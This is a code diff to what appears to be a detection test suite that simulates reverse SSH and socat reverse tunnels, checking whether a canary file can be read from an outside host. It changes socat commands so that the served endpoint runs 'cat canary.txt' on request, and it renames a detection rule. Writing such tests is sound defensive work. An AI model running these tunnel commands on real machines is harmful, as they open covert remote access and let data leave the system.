@@ -48,14 +48,17 @@ const SSH =
 const SERVE =
   'chmod 600 client client-rsa 2>/dev/null; socat TCP-LISTEN:8000,reuseaddr,fork,bind=127.0.0.1 FILE:canary.txt &';
 
+/** A target that waits to be asked. */
+const ASKED = SERVE.replace('FILE:canary.txt', "SYSTEM:'read x; cat canary.txt'");
+
 let nextRemote: number = PORTS.reverse;
 
 /** Comes back in through a port that a tunnel opened outside. */
-function comesIn(port: number, after: number) {
+function comesIn(port: number, after: number, text: string) {
   return async (_: Outside, canary: string) => {
     await new Promise((resolve) => setTimeout(resolve, after));
     return (
-      (await within(12_000, async () => (await exchange(port, '', canary, 1500)).includes(canary))) ?? false
+      (await within(12_000, async () => (await exchange(port, text, canary, 1500)).includes(canary))) ?? false
     );
   };
 }
@@ -133,8 +136,8 @@ export function reverseSsh(): Attack[] {
           ? ['remote-control.reverse-ssh', 'remote-control.reverse-ssh-suspected']
           : ['remote-control.reverse-ssh'],
         ports: [port],
-        script: `${SERVE} ${command(nextRemote, port, cipher)}`,
-        outside: comesIn(nextRemote, atOnce ? 0 : 1500),
+        script: `${beside ? ASKED : SERVE} ${command(nextRemote, port, cipher)}`,
+        outside: comesIn(nextRemote, atOnce ? 0 : beside ? 3500 : 1500, beside ? 'x\n' : ''),
         needs: [...needs, 'socat'],
       };
     }),
@@ -274,7 +277,7 @@ export function tunnels(): Attack[] {
     {
       name: 'socat, the outside as client',
       kind: 'plain reverse tunnel',
-      rules: ['remote-control.reverse-tunnel'],
+      rules: ['remote-control.client-outside'],
       ports: [PORTS.shell],
       script: `${SERVE.replace('FILE:canary.txt', "SYSTEM:'read x; cat canary.txt'")} sleep 0.3; socat TCP:${HOST}:${PORTS.shell} TCP:127.0.0.1:8000`,
       before: waitsForShell(PORTS.shell, OUTSIDE, false, ['GET / HTTP/1.1\r\nHost: inside\r\n\r\n']),
